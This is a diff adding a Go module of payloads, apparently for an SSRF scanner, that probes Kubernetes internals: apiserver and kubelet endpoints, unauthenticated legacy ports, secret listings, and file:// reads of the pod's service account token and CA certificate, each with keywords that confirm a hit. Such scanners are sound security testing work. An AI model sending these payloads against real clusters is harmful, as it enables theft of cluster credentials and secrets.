@@ -0,0 +1,82 @@
+package payloads
+
+// serviceAccountDir Pod内服务账号凭据的挂载目录
+const serviceAccountDir = "/var/run/secrets/kubernetes.io/serviceaccount/"
+
+// kubeForbiddenKeywords 未认证访问API的拒绝信息，说明请求已到达集群组件
+var kubeForbiddenKeywords = []string{"system:anonymous"}
+
+// GetKubernetesPayloads 获取Kubernetes集群内部接口payload（默认扫描）
+// 覆盖 kube-apiserver、kubelet（10250/10255）和Pod内挂载的服务账号令牌
+// 关键字不包含引号等JSON格式字符，兼容缩进输出（kube-apiserver 对 curl 等客户端返回缩进的JSON）
+func GetKubernetesPayloads() []Payload {
+	return []Payload{
+		// kube-apiserver（集群内服务域名）
+		{
+			Value:    "https://kubernetes.default.svc/version",
+			Type:     "容器服务",
+			Keywords: []string{"gitVersion", "goVersion", "buildDate"},
+		},
+		{
+			Value:    "https://kubernetes.default.svc/api/v1/namespaces/default/pods",
+			Type:     "容器服务",
+			Keywords: append([]string{"PodList"}, kubeForbiddenKeywords...),
+		},
+		{
+			Value:    "https://kubernetes.default.svc.cluster.local/api/v1/secrets",
+			Type:     "容器服务",
+			Keywords: append([]string{"SecretList"}, kubeForbiddenKeywords...),
+		},
+		{
+			// 旧版本的非安全端口，不需要认证
+			Value:    "http://127.0.0.1:8080/api/v1/pods",
+			Type:     "容器服务",
+			Keywords: []string{"PodList"},
+		},
+		{
+			Value:    "https://127.0.0.1:6443/version",
+			Type:     "容器服务",
+			Keywords: []string{"gitVersion", "goVersion"},
+		},
+
+		// kubelet
+		{
+			Value:    "https://127.0.0.1:10250/pods",
+			Type:     "容器服务",
+			Keywords: []string{"PodList", "podIP"},
+		},
+		{
+			Value:    "https://127.0.0.1:10250/runningpods/",
+			Type:     "容器服务",
+			Keywords: []string{"PodList"},
+		},
+		{
+			// 只读端口，不需要认证
+			Value:    "http://127.0.0.1:10255/pods",
+			Type:     "容器服务",
+			Keywords: []string{"PodList", "podIP"},
+		},
+		{
+			Value:    "http://127.0.0.1:10255/spec/",
+			Type:     "容器服务",
+			Keywords: []string{"num_cores", "machine_id"},
+		},
+
+		// 服务账号凭据（令牌为JWT，以 eyJhbGciOi 开头）
+		{
+			Value:    "file://" + serviceAccountDir + "token",
+			Type:     "文件读取",
+			Keywords: []string{"eyJhbGciOi"},
+		},
+		{
+			Value:    "file://" + serviceAccountDir + "ca.crt",
+			Type:     "文件读取",
+			Keywords: []string{"BEGIN CERTIFICATE"},
+		},
+		{
+			Value:    "file:///proc/self/mountinfo",
+			Type:     "文件读取",
+			Keywords: []string{"kubernetes.io~", "serviceaccount"},
+		},
+	}
+}